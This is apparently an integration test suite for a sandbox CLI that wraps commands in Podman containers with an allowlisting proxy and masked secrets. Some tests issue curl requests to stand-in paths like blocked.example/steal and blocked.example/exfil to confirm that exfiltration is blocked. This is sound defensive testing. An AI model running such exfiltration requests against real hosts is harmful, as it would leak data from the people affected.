import { execFileSync } from "node:child_process"
import { randomBytes } from "node:crypto"
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { Command } from "@effect/platform"
import { NodeContext } from "@effect/platform-node"
import { assert, layer } from "@effect/vitest"
import { Context, Effect, Layer, Option, Schedule, Stream } from "effect"
import { ContainerRuntime } from "../../src/services/ContainerRuntime.js"
import { makeTestPki } from "../proxy/support.js"
import { baseImage, PodmanRuntime } from "./support/podman.js"
import { acquireEgress, type HostUpstream, hostUpstream, podmanSocket } from "./support/sandbox.js"
import { buildSandboxCli, runProcess } from "./support/sandboxCli.js"

/**
 * `airut-sandbox` as CI runs it: the bundled CLI as a subprocess on a fixture repository, on the
 * Podman service, with the real proxy sidecar. An HTTPS test upstream on the egress network's
 * gateway stands in for allowed.example (upstream override, its CA trusted by the proxy).
 */

const run = randomBytes(4).toString("hex")
const prefix = `airut-c${run}`
const realToken = `ghp_${randomBytes(18).toString("hex")}`

const dockerfile = `FROM ${baseImage}
RUN apt-get update \\
 && DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends curl ca-certificates git \\
 && rm -rf /var/lib/apt/lists/*
`
const allowlist = "domains:\n  - allowed.example\n"
const sandboxYaml = `env:
  PLAIN: plain-value
masked_secrets:
  TOKEN:
    value: !env AIRUT_TEST_REAL_TOKEN
    scopes: [allowed.example]
    headers: [Authorization]
`

interface CliRigShape {
  readonly cli: string
  readonly repo: string
  readonly upstream: HostUpstream
  readonly env: Readonly<Record<string, string>>
  readonly scratch: string
}
class CliRig extends Context.Tag("test/SandboxCliRig")<CliRig, CliRigShape>() {}

const writeFiles = (dir: string, files: Readonly<Record<string, string>>) => {
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(join(dir, name, ".."), { recursive: true })
    writeFileSync(join(dir, name), text)
  }
}

const git = (cwd: string, ...args: ReadonlyArray<string>) =>
  execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@localhost", ...args], {
    cwd,
    encoding: "utf8",
  }).trim()

/**
 * Untags every image of this file's prefix, overlays before the images they build on. By tag, not
 * id: the Node image has the same id under every prefix that built it from the same base.
 */
const removeOurImages = Effect.gen(function* () {
  const runtime = yield* ContainerRuntime
  for (const kind of ["overlay", "repo", "proxy", "node"]) {
    const images = yield* runtime.listImages("airut.image")
    const tags = images.flatMap((i) => i.tags).filter((t) => t.startsWith(`localhost/${prefix}-${kind}:`))
    yield* Effect.forEach(tags, (tag) => runtime.removeImage(tag), { discard: true })
  }
})

const RigLive = Layer.scoped(
  CliRig,
  Effect.gen(function* () {
    const socket = yield* podmanSocket
    const gateway = yield* acquireEgress(`${prefix}-egress`, `sandbox-cli-${run}`)
    const pki = yield* makeTestPki(["allowed.example"])
    const upstream = yield* hostUpstream(pki, gateway)
    const { cli } = yield* buildSandboxCli
    const scratch = yield* Effect.acquireRelease(
      Effect.sync(() => mkdtempSync(join(tmpdir(), "airut-sandbox-cli-"))),
      (dir) => Effect.sync(() => rmSync(dir, { recursive: true, force: true })),
    )
    const repo = join(scratch, "repo")
    writeFiles(repo, {
      ".airut/container/Dockerfile": dockerfile,
      ".airut/network-allowlist.yaml": allowlist,
      ".airut/sandbox.yaml": sandboxYaml,
      README: "fixture\n",
    })
    writeFileSync(join(scratch, "upstream-ca.pem"), pki.caPem)
    const env = {
      AIRUT_SANDBOX_SOCKET: socket,
      AIRUT_SANDBOX_STATE_DIR: join(scratch, "state"),
      AIRUT_SANDBOX_PREFIX: prefix,
      AIRUT_SANDBOX_UPSTREAM_OVERRIDES: `allowed.example=${gateway}:${upstream.port}`,
      AIRUT_SANDBOX_UPSTREAM_CA: join(scratch, "upstream-ca.pem"),
      AIRUT_TEST_REAL_TOKEN: realToken,
    }
    // Images this file built, removed last (overlays before the images they build on).
    yield* Effect.addFinalizer(() => removeOurImages.pipe(Effect.catchAllCause(Effect.logWarning)))
    return { cli, repo, upstream, env, scratch }
  }),
)

const TestLayer = RigLive.pipe(Layer.provideMerge(PodmanRuntime), Layer.provideMerge(NodeContext.layer))

const cliCommand = (
  rig: CliRigShape,
  args: ReadonlyArray<string>,
  options: { cwd?: string; env?: Record<string, string> } = {},
) =>
  Command.make("node", rig.cli, ...args).pipe(
    Command.workingDirectory(options.cwd ?? rig.repo),
    Command.env({ ...rig.env, ...options.env }),
  )

const airutSandbox = (
  rig: CliRigShape,
  args: ReadonlyArray<string>,
  options: { cwd?: string; env?: Record<string, string> } = {},
) => runProcess(cliCommand(rig, args, options))

/** What a run of this file's CLI left: command containers, proxies and task networks. */
const leftovers = Effect.gen(function* () {
  const runtime = yield* ContainerRuntime
  const containers = yield* runtime.listContainers({ "airut.managed": "true" })
  const networks = yield* runtime.listNetworks({ "airut.managed": "true" })
  return [
    ...containers
      .filter(
        (c) =>
          c.labels["airut.sandbox"] === "airut-sandbox" ||
          c.names.some((n) => n.replace(/^\//, "").startsWith(`${prefix}-proxy-`)),
      )
      .map((c) => `container ${c.names.join(",")}`),
    ...networks.filter((n) => n.name.startsWith(`${prefix}-net-`)).map((n) => `network ${n.name}`),
  ]
})

const text = (bytes: Uint8Array) => Buffer.from(bytes).toString("utf8")

layer(TestLayer, { excludeTestServices: true, timeout: "600 seconds" })(
  "airut-sandbox CLI on Podman",
  (it) => {
    it.effect(
      "output passes through byte for byte and the command's exit code comes back",
      () =>
        Effect.gen(function* () {
          const rig = yield* CliRig
          const result = yield* airutSandbox(rig, [
            "run",
            "--",
            "sh",
            "-c",
            "printf 'a\\000b\\r\\n\\377'; printf 'to stderr' >&2; exit 3",
          ])
          yield* Effect.logInfo(`first run (image build, probe, proxy): ${result.ms} ms`)
          assert.strictEqual(result.code, 3, result.stderr)
          assert.deepStrictEqual([...result.stdout], [0x61, 0x00, 0x62, 0x0d, 0x0a, 0xff])
          // The command's stderr, after the one warning of ours the test's upstream override causes.
          const ours = /^timestamp=\S+ level=WARN .*upstream overrides reroute.*\n/m
          assert.match(result.stderr, ours)
          assert.strictEqual(result.stderr.replace(ours, ""), "to stderr")
          const ok = yield* airutSandbox(rig, ["run", "--", "sh", "-c", 'printf "%s" "$PLAIN"'])
          yield* Effect.logInfo(`cached run: ${ok.ms} ms`)
          assert.strictEqual(ok.code, 0, ok.stderr)
          assert.strictEqual(text(ok.stdout), "plain-value")
          assert.deepStrictEqual(yield* leftovers, [])
        }),
      600_000,
    )

    it.effect("a request to a host not on the allowlist gets the 403 inside and shows in --network-log", () =>
      Effect.gen(function* () {
        const rig = yield* CliRig
        const logFile = join(rig.scratch, "network.jsonl")
        const result = yield* airutSandbox(rig, [
          "run",
          "--network-log",
          logFile,
          "--network-log-live",
          "--",
          "curl",
          "-sS",
          "--max-time",
          "10",
          "https://blocked.example/steal?x=1",
        ])
        assert.strictEqual(result.code, 0, result.stderr)
        assert.include(text(result.stdout), "blocked_by_network_allowlist")
        assert.include(result.stderr, "[net] BLOCKED GET blocked.example/steal?x=1 -> 403")
        const lines = readFileSync(logFile, "utf8")
          .trim()
          .split("\n")
          .map((l) => JSON.parse(l) as Record<string, unknown>)
        assert.isTrue(
          lines.some(
            (l) =>
              l.kind === "request" &&
              l.host === "blocked.example" &&
              l.action === "blocked" &&
              l.status === 403,
          ),
        )
      }),
    )

    it.effect(
      "a masked secret reaches its in-scope upstream as the real value; the command sees a surrogate",
      () =>
        Effect.gen(function* () {
          const rig = yield* CliRig
          const result = yield* airutSandbox(rig, [
            "run",
            "--",
            "sh",
            "-c",
            'curl -sS --max-time 10 -H "Authorization: Bearer $TOKEN" https://allowed.example/masked >/dev/null && env',
          ])
          assert.strictEqual(result.code, 0, result.stderr)
          const seen = rig.upstream.arrived.find((a) => a.url === "/masked")
          assert.strictEqual(seen?.authorization, `Bearer ${realToken}`)
          const env = text(result.stdout)
          assert.match(env, /^TOKEN=ghp_/m)
          assert.notInclude(env, realToken)
          assert.notInclude(result.stderr, realToken)
        }),
    )

    it.effect("a command past --timeout exits 124 and leaves no container or network", () =>
      Effect.gen(function* () {
        const rig = yield* CliRig
        const result = yield* airutSandbox(rig, ["run", "--timeout", "2", "--", "sleep", "60"])
        assert.strictEqual(result.code, 124, result.stderr)
        assert.include(result.stderr, "airut-sandbox: the command did not finish within 2 s")
        assert.deepStrictEqual(yield* leftovers, [])
      }),
    )

    it.effect("a missing !env variable exits 125 with one line, before the engine is asked anything", () =>
      Effect.gen(function* () {
        const rig = yield* CliRig
        // A repository whose sandbox.yaml names a variable nobody sets, and a socket that does not
        // exist: reaching the engine would be a different failure.
        const repo = join(rig.scratch, "missing-env")
        writeFiles(repo, {
          ".airut/container/Dockerfile": dockerfile,
          ".airut/network-allowlist.yaml": allowlist,
          ".airut/sandbox.yaml": sandboxYaml.replace("AIRUT_TEST_REAL_TOKEN", `AIRUT_TEST_UNSET_${run}`),
        })
        const result = yield* airutSandbox(rig, ["run", "--", "true"], {
          cwd: repo,
          env: { AIRUT_SANDBOX_SOCKET: join(rig.scratch, "no-engine.sock") },
        })
        assert.strictEqual(result.code, 125)
        const lines = result.stderr.trim().split("\n")
        assert.strictEqual(lines.length, 1, result.stderr)
        assert.match(
          lines[0] ?? "",
          /^airut-sandbox: \.airut\/sandbox\.yaml: masked_secrets\.TOKEN\.value: .*AIRUT_TEST_UNSET_/,
        )
        const unreachable = yield* airutSandbox(rig, ["run", "--", "true"], {
          env: { AIRUT_SANDBOX_SOCKET: join(rig.scratch, "no-engine.sock") },
        })
        assert.strictEqual(unreachable.code, 125)
        assert.match(
          unreachable.stderr.trim(),
          /^airut-sandbox: container engine: no answer on .*no-engine\.sock/,
        )
      }),
    )

    it.effect("SIGINT mid-command stops it and removes everything the run made", () =>
      Effect.scoped(
        Effect.gen(function* () {
          const rig = yield* CliRig
          const proc = yield* Command.start(cliCommand(rig, ["run", "--verbose", "--", "sleep", "60"]))
          yield* proc.stderr.pipe(
            Stream.decodeText(),
            Stream.splitLines,
            Stream.takeUntil((line) => line.includes("sandbox ready")),
            Stream.runDrain,
          )
          const runtime = yield* ContainerRuntime
          // The command's container comes up right after the proxy is ready.
          const running = yield* runtime.listContainers({ "airut.sandbox": "airut-sandbox" }).pipe(
            Effect.filterOrFail((list) => list.length > 0),
            Effect.retry({ schedule: Schedule.spaced("250 millis"), times: 80 }),
          )
          assert.isAtLeast(running.length, 1)
          yield* Effect.sleep("1 second")
          yield* proc.kill("SIGINT")
          const code = yield* proc.exitCode
          assert.strictEqual(code, 130)
          assert.deepStrictEqual(yield* leftovers, [])
        }),
      ),
    )

    it.effect("image save, then load on an engine without the images: the next run builds nothing", () =>
      Effect.gen(function* () {
        const rig = yield* CliRig
        const runtime = yield* ContainerRuntime
        const cache = join(rig.scratch, "image-cache")
        const hash = yield* airutSandbox(rig, ["image", "hash"])
        assert.strictEqual(hash.code, 0, hash.stderr)
        assert.match(text(hash.stdout), /^repo=[0-9a-f]{64}\nproxy=[0-9a-f]{64}\n$/)
        const saved = yield* airutSandbox(rig, ["image", "save", cache])
        assert.strictEqual(saved.code, 0, saved.stderr)
        yield* removeOurImages
        const gone = yield* runtime.listImages("airut.image")
        assert.isFalse(gone.some((i) => i.tags.some((t) => t.startsWith(`localhost/${prefix}-`))))
        const loaded = yield* airutSandbox(rig, ["image", "load", cache])
        assert.strictEqual(loaded.code, 0, loaded.stderr)
        const after = yield* airutSandbox(rig, ["run", "--verbose", "--", "true"])
        assert.strictEqual(after.code, 0, after.stderr)
        assert.include(after.stderr, "repo layer cached, no build")
        assert.notInclude(after.stderr, "building")
      }),
    )

    it.effect(
      "the Action's script: a PR that widens the allowlist is merged, but the base allowlist still applies",
      () =>
        Effect.gen(function* () {
          const rig = yield* CliRig
          const work = join(rig.scratch, "action-repo")
          writeFiles(work, {
            ".airut/container/Dockerfile": dockerfile,
            ".airut/network-allowlist.yaml": allowlist,
            ".airut/sandbox.yaml": sandboxYaml,
          })
          git(work, "init", "-q", "-b", "main")
          git(work, "add", ".")
          git(work, "commit", "-q", "-m", "base")
          git(work, "checkout", "-q", "-b", "pr")
          writeFiles(work, {
            ".airut/network-allowlist.yaml": `${allowlist}  - blocked.example\n`,
            "pr.txt": "from the PR\n",
          })
          git(work, "commit", "-q", "-am", "widen the allowlist")
          git(work, "add", "pr.txt")
          git(work, "commit", "-q", "-m", "pr file")
          const prSha = git(work, "rev-parse", "HEAD")
          git(work, "checkout", "-q", "main")
          const result = yield* runProcess(
            Command.make("bash", join(process.cwd(), "scripts", "sandbox-action.sh")).pipe(
              Command.workingDirectory(work),
              Command.env({
                ...rig.env,
                INPUT_COMMAND: "cat pr.txt && curl -sS --max-time 10 https://blocked.example/exfil",
                INPUT_PR_SHA: prSha,
                INPUT_MERGE: "true",
                INPUT_CACHE: "",
                AIRUT_SANDBOX: `node ${rig.cli}`,
              }),
            ),
          )
          assert.strictEqual(result.code, 0, result.stderr)
          const out = text(result.stdout)
          assert.include(out, "from the PR")
          assert.include(out, "blocked_by_network_allowlist")
          assert.isTrue(Option.isSome(Option.fromNullable(out.match(/"host":"blocked\.example"/))))
        }),
    )
  },
)
